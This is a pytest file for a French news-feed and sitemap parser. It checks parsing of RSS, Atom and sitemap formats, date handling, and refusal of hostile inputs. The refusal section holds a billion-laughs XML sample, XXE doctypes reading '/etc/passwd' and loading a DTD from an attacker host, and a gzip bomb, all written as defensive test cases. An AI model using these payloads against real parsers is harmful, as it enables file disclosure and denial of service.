"""Feeds and sitemaps: each kind of source read from small French documents written
here, and each hostile or broken document refused with its reason."""

from __future__ import annotations

import gzip
import time
import tracemalloc
import zlib

import pytest

from tasks.web.feeds import Entry, NotAListing, gunzip, parse_listing, parse_url_list, sniff

MB = 1024 * 1024


def iso(entries: tuple[Entry, ...]) -> list[str | None]:
    """The entries' dates as ISO text, so that a date left in its own zone shows."""
    return [entry.published.isoformat() if entry.published else None for entry in entries]


def refusal(body: bytes, *, max_bytes: int = MB) -> NotAListing:
    with pytest.raises(NotAListing) as raised:
        parse_listing(body, "https://www.example.fr/", max_bytes=max_bytes)
    return raised.value


# -- RSS 2.0 ---------------------------------------------------------------------------

DAILY_RSS = """<?xml version="1.0" encoding="ISO-8859-1"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel>
    <title>La Dépêche de l'Ouest - À la une</title>
    <link>https://www.depeche-ouest.fr/</link>
    <image><title>Logo de La Dépêche</title><url>https://www.depeche-ouest.fr/logo.png</url></image>
    <item>
      <title><![CDATA[Réforme des retraites : l&#039;Assemblée adopte le texte]]></title>
      <link>
        /politique/2024/02/05/reforme-des-retraites.html
      </link>
      <pubDate>Mon, 05 Feb 2024 10:30:00 +0100</pubDate>
      <author>redaction@depeche-ouest.fr (Marie Lefèvre)</author>
    </item>
    <item>
      <title>
        Météo : fortes pluies
        attendues en Bretagne
      </title>
      <guid>https://www.depeche-ouest.fr/meteo/2024/02/05/pluies-bretagne.html</guid>
      <pubDate>05 Feb 2024 14:00:00 GMT</pubDate>
      <dc:creator>Jean-Pierre Durand</dc:creator>
    </item>
    <item>
      <title>Brève sans lien</title>
      <guid isPermaLink="false">article-48213</guid>
    </item>
    <item>
      <title>Les « gilets jaunes » &amp;amp; la rue, cinq ans après</title>
      <link>https://www.depeche-ouest.fr/societe/gilets-jaunes.html?utm_source=rss&amp;id=7</link>
      <pubDate>lun., 05 févr. 2024 18:15:00 CET</pubDate>
    </item>
    <item>
      <title>Sport : le Stade rennais l'emporte</title>
      <link>https://www.depeche-ouest.fr/sport/stade-rennais.html</link>
      <pubDate>hier soir</pubDate>
    </item>
  </channel>
</rss>
""".encode("iso-8859-1")


def test_an_rss_feed_in_latin_1_gives_its_items_with_their_hints() -> None:
    listing = parse_listing(DAILY_RSS, "https://www.depeche-ouest.fr/rss/une.xml", max_bytes=MB)
    assert listing.kind == "rss"
    assert [entry.url for entry in listing.entries] == [
        "https://www.depeche-ouest.fr/politique/2024/02/05/reforme-des-retraites.html",
        "https://www.depeche-ouest.fr/meteo/2024/02/05/pluies-bretagne.html",
        "https://www.depeche-ouest.fr/societe/gilets-jaunes.html?utm_source=rss&id=7",
        "https://www.depeche-ouest.fr/sport/stade-rennais.html",
    ]
    assert [entry.title for entry in listing.entries] == [
        "Réforme des retraites : l'Assemblée adopte le texte",
        "Météo : fortes pluies attendues en Bretagne",
        "Les « gilets jaunes » & la rue, cinq ans après",
        "Sport : le Stade rennais l'emporte",
    ]
    assert iso(listing.entries) == [
        "2024-02-05T09:30:00+00:00",
        "2024-02-05T14:00:00+00:00",
        "2024-02-05T17:15:00+00:00",
        None,
    ]
    assert [entry.author for entry in listing.entries] == [
        "Marie Lefèvre",
        "Jean-Pierre Durand",
        None,
        None,
    ]
    assert {entry.site_name for entry in listing.entries} == {"La Dépêche de l'Ouest - À la une"}
    assert {entry.hint_source for entry in listing.entries} == {"feed"}
    assert listing.skipped == 1  # the brief whose guid is not a permalink


def one_item_feed(pub_date: str) -> bytes:
    return (
        '<rss version="2.0"><channel><title>Le Courrier</title><item>'
        "<link>https://www.courrier.fr/a.html</link>"
        f"<pubDate>{pub_date}</pubDate></item></channel></rss>"
    ).encode()


@pytest.mark.parametrize(
    ("pub_date", "expected"),
    [
        ("Mon, 05 Feb 2024 10:30:00 +0100", "2024-02-05T09:30:00+00:00"),
        ("05 Feb 2024 10:30:00 GMT", "2024-02-05T10:30:00+00:00"),
        ("Mon, 05 Feb 2024 10:30:00 +01:00", "2024-02-05T09:30:00+00:00"),
        ("Mon, 5 Feb 2024 10:30 -0500", "2024-02-05T15:30:00+00:00"),
        ("Mon, 05 Jun 2024 10:30:00 CEST", "2024-06-05T08:30:00+00:00"),
        ("lundi 5 février 2024 10:30:00 +0100", "2024-02-05T09:30:00+00:00"),
        ("Mar, 13 août 2024 07:00:00 +0200", "2024-08-13T05:00:00+00:00"),
        ("Mon, 05 Feb 2024", "2024-02-05T00:00:00+00:00"),
        ("2024-02-05T10:30:00+01:00", "2024-02-05T09:30:00+00:00"),
        ("Mon, 05 Feb 2024 10:30:00 -0000", "2024-02-05T10:30:00+00:00"),
        ("Mon, 31 Feb 2024 10:30:00 +0100", None),
        ("2024-02-05T25:00:00Z", None),
        ("hier soir", None),
        ("", None),
    ],
)
def test_an_rss_date_is_read_in_utc_or_left_out(pub_date: str, expected: str | None) -> None:
    listing = parse_listing(one_item_feed(pub_date), "https://www.courrier.fr/rss", max_bytes=MB)
    assert iso(listing.entries) == [expected]


def test_an_rss_091_feed_with_netscapes_doctype_is_read_with_html_entities() -> None:
    feed = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Le Petit Journal</title>
<item><title>Caf&eacute;s&nbsp;: la fin d&rsquo;une &eacute;poque</title>
<link>https://www.petit-journal.fr/cafes.html</link></item>
</channel></rss>"""
    listing = parse_listing(feed, "https://www.petit-journal.fr/rss", max_bytes=MB)
    assert [(entry.url, entry.title) for entry in listing.entries] == [
        ("https://www.petit-journal.fr/cafes.html", "Cafés : la fin d’une époque")
    ]


# -- RSS 1.0 and Atom ------------------------------------------------------------------

RDF_FEED = b"""<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://linuxfr.example/news.rss">
    <title>LinuxFr.example : les d\xc3\xa9p\xc3\xaaches</title>
    <items><rdf:Seq><rdf:li rdf:resource="https://linuxfr.example/news/sortie-de-debian"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://linuxfr.example/news/sortie-de-debian">
    <title>Sortie de Debian 13 &#171; Trixie &#187;</title>
    <link>https://linuxfr.example/news/sortie-de-debian</link>
    <dc:date>2024-02-05T08:00:00+01:00</dc:date>
    <dc:creator>Beno\xc3\xaet Sibaud</dc:creator>
  </item>
  <item rdf:about="https://linuxfr.example/news/agenda">
    <title>Agenda du libre</title>
    <link>/news/agenda-du-libre</link>
    <dc:date>2024-02-05</dc:date>
    <dc:creator>Florent Zara</dc:creator>
    <dc:creator>Claire Dupont</dc:creator>
  </item>
</rdf:RDF>
"""


def test_an_rss_1_feed_gives_its_items_with_dc_dates_and_creators() -> None:
    listing = parse_listing(RDF_FEED, "https://linuxfr.example/news.rss", max_bytes=MB)
    assert listing.kind == "rdf"
    assert listing.entries == (
        Entry(
            url="https://linuxfr.example/news/sortie-de-debian",
            title="Sortie de Debian 13 « Trixie »",
            published=listing.entries[0].published,
            author="Benoît Sibaud",
            site_name="LinuxFr.example : les dépêches",
        ),
        Entry(
            url="https://linuxfr.example/news/agenda-du-libre",
            title="Agenda du libre",
            published=listing.entries[1].published,
            author="Florent Zara, Claire Dupont",
            site_name="LinuxFr.example : les dépêches",
        ),
    )
    assert iso(listing.entries) == ["2024-02-05T07:00:00+00:00", "2024-02-05T00:00:00+00:00"]


ATOM_FEED = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://eco.example.fr/blog/">
  <title type="text">Le Blog Économie</title>
  <author><name>La rédaction</name></author>
  <entry>
    <title type="html">Inflation : les prix de l&amp;rsquo;énergie reculent</title>
    <link rel="alternate" type="application/atom+xml" href="https://eco.example.fr/feed/inflation"/>
    <link rel="enclosure" type="image/jpeg" href="https://eco.example.fr/img/gaz.jpg"/>
    <link rel="alternate" type="text/html" href="2024/02/inflation-energie.html"/>
    <published>2024-02-05T09:00:00Z</published>
    <updated>2024-02-06T12:00:00Z</updated>
    <author><name>Sophie Marchand</name></author>
  </entry>
  <entry>
    <title>Le chômage au plus bas depuis 2008</title>
    <link href="https://eco.example.fr/blog/2024/02/chomage.html"/>
    <updated>2024-02-04T23:30:00-05:00</updated>
  </entry>
  <entry>
    <title>Brouillon</title>
    <link rel="edit" href="https://eco.example.fr/admin/42"/>
  </entry>
</feed>
""".encode()


def test_an_atom_feed_gives_its_entries_html_link_first() -> None:
    listing = parse_listing(ATOM_FEED, "https://eco.example.fr/atom.xml", max_bytes=MB)
    assert listing.kind == "atom"
    assert [entry.url for entry in listing.entries] == [
        "https://eco.example.fr/blog/2024/02/inflation-energie.html",
        "https://eco.example.fr/blog/2024/02/chomage.html",
    ]
    assert [entry.title for entry in listing.entries] == [
        "Inflation : les prix de l’énergie reculent",
        "Le chômage au plus bas depuis 2008",
    ]
    # published wins over updated; updated stands in when there is no published
    assert iso(listing.entries) == ["2024-02-05T09:00:00+00:00", "2024-02-05T04:30:00+00:00"]
    # an entry without its own author has the feed's
    assert [entry.author for entry in listing.entries] == ["Sophie Marchand", "La rédaction"]
    assert {entry.site_name for entry in listing.entries} == {"Le Blog Économie"}
    assert listing.skipped == 1


# -- sitemaps --------------------------------------------------------------------------

URLSET = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <url>
    <loc>
      https://www.journal-du-centre.example/regions/tours/inondations.html
    </loc>
    <lastmod>2024-02-05</lastmod>
  </url>
  <url><loc>https://www.journal-du-centre.example/archives/fevrier</loc><lastmod>2024-02</lastmod></url>
  <url><loc>/culture/festival-blois.html</loc><lastmod>2024-02-05T10:00+01:00</lastmod></url>
  <url><loc>https://www.journal-du-centre.example/sport/</loc><lastmod>2024-13-45</lastmod></url>
  <url><lastmod>2024-02-05</lastmod></url>
</urlset>
"""
URLSET_URLS = [
    "https://www.journal-du-centre.example/regions/tours/inondations.html",
    "https://www.journal-du-centre.example/archives/fevrier",
    "https://www.journal-du-centre.example/culture/festival-blois.html",
    "https://www.journal-du-centre.example/sport/",
]
URLSET_DATES = [
    "2024-02-05T00:00:00+00:00",
    "2024-02-01T00:00:00+00:00",
    "2024-02-05T09:00:00+00:00",
    None,
]
SITEMAP_URL = "https://www.journal-du-centre.example/sitemap.xml"


@pytest.mark.parametrize(
    "body",
    [
        URLSET,
        URLSET.replace(b' xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"', b""),
        gzip.compress(URLSET),
    ],
    ids=["namespaced", "without-namespace", "gzipped"],
)
def test_a_urlset_gives_its_locations_and_lastmod_dates(body: bytes) -> None:
    listing = parse_listing(body, SITEMAP_URL, max_bytes=MB)
    assert listing.kind == "urlset"
    assert [entry.url for entry in listing.entries] == URLSET_URLS
    assert iso(listing.entries) == URLSET_DATES
    assert {(e.title, e.author, e.site_name, e.hint_source) for e in listing.entries} == {
        (None, None, None, "sitemap")
    }
    assert listing.skipped == 1


def test_a_sitemap_index_gives_its_child_sitemaps() -> None:
    index = b"""<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <sitemap><loc>https://www.journal-du-centre.example/sitemap-news.xml</loc>
    <lastmod>2024-02-05T06:00:00+01:00</lastmod></sitemap>
  <sitemap><loc>/sitemaps/2024-01.xml.gz</loc></sitemap>
</sitemapindex>"""
    listing = parse_listing(index, SITEMAP_URL, max_bytes=MB)
    assert listing.kind == "sitemapindex"
    assert listing.entries == ()
    assert [
        (url, lastmod.isoformat() if lastmod else None) for url, lastmod in listing.sitemaps
    ] == [
        ("https://www.journal-du-centre.example/sitemap-news.xml", "2024-02-05T05:00:00+00:00"),
        ("https://www.journal-du-centre.example/sitemaps/2024-01.xml.gz", None),
    ]


NEWS_SITEMAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"
        xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">
  <url>
    <loc>https://www.lyon-matin.example/faits-divers/incendie-croix-rousse.html</loc>
    <lastmod>2024-02-05T11:00:00+01:00</lastmod>
    <news:news>
      <news:publication>
        <news:name>Lyon Matin</news:name>
        <news:language>fr</news:language>
      </news:publication>
      <news:publication_date>2024-02-05T07:45:00+01:00</news:publication_date>
      <news:title>Incendie &#224; la Croix-Rousse :
        deux immeubles &amp;eacute;vacu&#233;s</news:title>
    </news:news>
    <image:image><image:loc>https://www.lyon-matin.example/img/incendie.jpg</image:loc></image:image>
  </url>
  <url>
    <loc>https://www.lyon-matin.example/meteo/</loc>
    <lastmod>2024-02-05</lastmod>
  </url>
</urlset>
"""


def test_a_google_news_sitemap_gives_its_articles_with_publication_and_title() -> None:
    listing = parse_listing(NEWS_SITEMAP, "https://www.lyon-matin.example/news.xml", max_bytes=MB)
    assert listing.kind == "news-sitemap"
    assert [(e.url, e.title, e.site_name, e.hint_source) for e in listing.entries] == [
        (
            "https://www.lyon-matin.example/faits-divers/incendie-croix-rousse.html",
            "Incendie à la Croix-Rousse : deux immeubles évacués",
            "Lyon Matin",
            "sitemap",
        ),
        ("https://www.lyon-matin.example/meteo/", None, None, "sitemap"),
    ]
    # the news publication date, not the page's lastmod
    assert iso(listing.entries) == ["2024-02-05T06:45:00+00:00", "2024-02-05T00:00:00+00:00"]


# -- documents refused -----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://www.example.fr/a.html</link></item>
</channel></rss>
"""


def test_a_billion_laughs_feed_is_refused_quickly() -> None:
    started = time.perf_counter()
    error = refusal(BILLION_LAUGHS, max_bytes=100 * MB)
    assert error.reason == "xml_entities_refused"
    assert time.perf_counter() - started < 1


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
        b'<!DOCTYPE rss [<!ENTITY x "une entit\xc3\xa9 anodine">]>',
    ],
    ids=["external-file", "external-parameter", "internal"],
)
def test_a_feed_declaring_entities_is_refused(doctype: bytes) -> None:
    feed = (
        b'<?xml version="1.0"?>\n' + doctype + b'\n<rss version="2.0"><channel><item>'
        b"<title>&x;</title><link>https://www.example.fr/a.html</link></item></channel></rss>"
    )
    error = refusal(feed)
    assert error.reason == "xml_entities_refused"
    assert str(error) == error.detail


def test_an_xhtml_page_is_sniffed_as_html_and_is_not_a_listing() -> None:
    page = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN"
  "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" lang="fr"><head><title>Accueil</title></head>
<body><p>Bienvenue</p></body></html>"""
    assert sniff(page) == "html"
    assert refusal(page).reason == "not_a_feed"


def test_well_formed_xml_of_another_kind_is_not_a_feed_and_names_its_root() -> None:
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
    error = refusal(svg)
    assert error.reason == "not_a_feed"
    assert "<svg> (http://www.w3.org/2000/svg)" in str(error)


def test_malformed_xml_is_refused_with_the_parsers_message_and_line() -> None:
    broken = b"""<?xml version="1.0"?>
<rss version="2.0"><channel>
<item><title>Titre</title><link>https://www.example.fr/a.html</link>
</channel></rss>"""
    error = refusal(broken)
    assert error.reason == "malformed_xml"
    assert "mismatched tag: line 4" in error.detail


@pytest.fixture(scope="module")
def gzip_bomb() -> bytes:
    """200 MB of zeros, gzipped to a few hundred kilobytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    zeros = bytes(MB)
    return b"".join(compressor.compress(zeros) for _ in range(200)) + compressor.flush()


def test_a_gzip_bomb_stops_at_the_cap_without_the_memory_following(gzip_bomb: bytes) -> None:
    assert len(gzip_bomb) < MB and sniff(gzip_bomb) == "gzip"
    tracemalloc.start()
    try:
        with pytest.raises(NotAListing) as raised:
            gunzip(gzip_bomb, max_bytes=MB)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert raised.value.reason == "too_large"
    assert peak < 8 * MB
    assert refusal(gzip_bomb).reason == "too_large"


def test_gunzip_reads_every_member_and_refuses_a_truncated_body() -> None:
    assert gunzip(gzip.compress(b"<urlset>") + gzip.compress(b"</urlset>"), MB) == (
        b"<urlset></urlset>"
    )
    truncated = gzip.compress(URLSET)[:-40]
    assert refusal(truncated).reason == "malformed_gzip"


def test_a_body_over_the_cap_is_refused_before_parsing() -> None:
    assert refusal(DAILY_RSS, max_bytes=len(DAILY_RSS) - 1).reason == "too_large"
    assert parse_listing(DAILY_RSS, "https://www.example.fr/", max_bytes=len(DAILY_RSS)).entries


# -- sniffing and URL lists ------------------------------------------------------------

URL_LIST = """# Sources régionales, relues le 5 février
https://www.depeche-ouest.fr/rss/une.xml
https://www.journal-du-centre.example/sitemap.xml   # index des sitemaps

  https://www.lyon-matin.example/news.xml
https://www.depeche-ouest.fr/rss/une.xml
https://eco.example.fr/blog/#derniers-articles
"""


def test_a_url_list_keeps_its_urls_in_order_once_without_comments() -> None:
    assert parse_url_list(URL_LIST) == [
        "https://www.depeche-ouest.fr/rss/une.xml",
        "https://www.journal-du-centre.example/sitemap.xml",
        "https://www.lyon-matin.example/news.xml",
        "https://eco.example.fr/blog/#derniers-articles",
    ]


def test_a_url_list_resolves_relative_lines_against_its_base_and_keeps_the_rest() -> None:
    assert parse_url_list(
        "/rss/une.xml\nsport.xml # le sport\n", "https://www.lemonde.example/"
    ) == [
        "https://www.lemonde.example/rss/une.xml",
        "https://www.lemonde.example/sport.xml",
    ]
    # fetch refuses these with a quarantine row each: nothing vanishes here
    assert parse_url_list("https://www.lemonde.example/rss\nftp://files.example/liste\n") == [
        "https://www.lemonde.example/rss",
        "ftp://files.example/liste",
    ]
    assert parse_url_list("/rss/une.xml\n") == ["/rss/une.xml"]


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (DAILY_RSS, "xml"),
        (
            b'\xef\xbb\xbf  <?xml version="1.0"?>\n<?xml-stylesheet href="rss.xsl"?>\n'
            b"<!-- fil principal -->\n<rss/>",
            "xml",
        ),
        ('<?xml version="1.0" encoding="UTF-16"?><feed/>'.encode("utf-16"), "xml"),
        (b"<!DOCTYPE rss SYSTEM 'rss.dtd'><rss/>", "xml"),
        (gzip.compress(URLSET), "gzip"),
        (b"<!doctype html>\n<html lang=fr><head></head></html>", "html"),
        (b"\n<!-- page d'accueil -->\n<HTML><BODY>Bonjour</BODY></HTML>", "html"),
        (b'<meta charset="utf-8"><title>Le Monde</title>', "html"),
        (b"Warning: mysql_connect() failed\n<html><body></body></html>", "html"),
        (URL_LIST.encode(), "urls"),
        (b'{"items": []}', "other"),
        (b"Titre\nhttps://www.example.fr/a.html\n", "other"),
        (b"", "other"),
    ],
    ids=[
        "latin-1-rss",
        "bom-declaration-pi-comment",
        "utf-16",
        "doctype-rss",
        "gzip",
        "html5",
        "uppercase-html-after-comment",
        "html-fragment",
        "html-after-a-warning",
        "url-list",
        "json",
        "text",
        "empty",
    ],
)
def test_sniff_tells_what_a_body_is_from_its_content(body: bytes, kind: str) -> None:
    assert sniff(body) == kind


def test_an_html_page_or_a_url_list_given_as_a_listing_is_not_a_feed() -> None:
    assert refusal(b"<!doctype html><html><body></body></html>").reason == "not_a_feed"
    assert refusal(URL_LIST.encode()).reason == "not_a_feed"
    assert refusal(b'{"items": []}').reason == "not_a_feed"
